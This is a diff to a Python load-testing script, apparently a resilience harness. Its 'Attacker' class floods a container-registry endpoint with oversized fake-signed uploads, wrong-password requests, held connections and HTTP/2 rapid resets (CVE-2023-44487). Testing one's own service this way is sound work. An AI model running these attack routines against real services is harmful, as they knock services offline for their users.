@@ -7,7 +7,6 @@ when it holds too much. Its last line says what it did. It knows the id of a key
 import collections
 import contextlib
 import resource
-import socket
 import ssl
 import struct
 import sys
@@ -76,13 +75,18 @@ class Attacker:
 
     def upload(self, key_id, is_whole):
         body = b'{"repositoryName":"app","layerPartBlob":"' + b"A" * 20 * MIB + b'"}'
-        signed = f"AWS4-HMAC-SHA256 Credential={key_id}/{time.strftime('%Y%m%d', time.gmtime())}/us-east-1/ecr/aws4_request"
+        signed = (
+            f"AWS4-HMAC-SHA256 Credential={key_id}/{time.strftime('%Y%m%d', time.gmtime())}/us-east-1/ecr/aws4_request"
+        )
         fields = [
             ("Host", self.host),
             ("Content-Type", JSON),
             ("X-Amz-Target", "AmazonEC2ContainerRegistry_V20150921.UploadLayerPart"),
             ("X-Amz-Date", time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())),
-            ("Authorization", f"{signed}, SignedHeaders=content-type;host;x-amz-date;x-amz-target, Signature={'0' * 64}"),
+            (
+                "Authorization",
+                f"{signed}, SignedHeaders=content-type;host;x-amz-date;x-amz-target, Signature={'0' * 64}",
+            ),
             ("Content-Length", len(body)),
         ]
         connection = self.http_1(head("POST", "/", fields))
@@ -187,6 +191,20 @@ class Attacker:
             self.requests += 1
         self.hold(connection)
 
+    def guesses(self):
+        """Streams with passwords that are wrong, whose answers are held back."""
+        connection = self.http_2()
+        for _ in range(100):
+            connection.request("/v2/" + "a" * 200 + "/tags/list", headers=[("authorization", "Basic QVdTOm5vdGhpbmc=")])
+            self.requests += 1
+        self.hold(connection)
+
+    def slow_guesses(self):
+        """The same over HTTP/1, from a client that is gone, and one that is not."""
+        guess = head("GET", "/v2/", [("Host", "x"), ("Authorization", "Basic QVdTOm5vdGhpbmc="), *LONG[:4]])
+        self.http_1(guess).close()
+        self.hold(self.http_1(guess))
+
     def resets(self):
         """CVE-2023-44487: streams that are reset as soon as they are asked for."""
         connection = self.http_2()
@@ -248,7 +266,7 @@ def main(name, host, source, key_id, rounds, seconds, held=HELD):
     while done < int(rounds) or time.monotonic() < until:
         try:
             attack()
-        except (OSError, socket.timeout):
+        except OSError:
             failed += 1
         done += 1
     print(f"{name}: {done} rounds, {attacker.requests} requests, {failed} cut off, {len(attacker.held)} held")
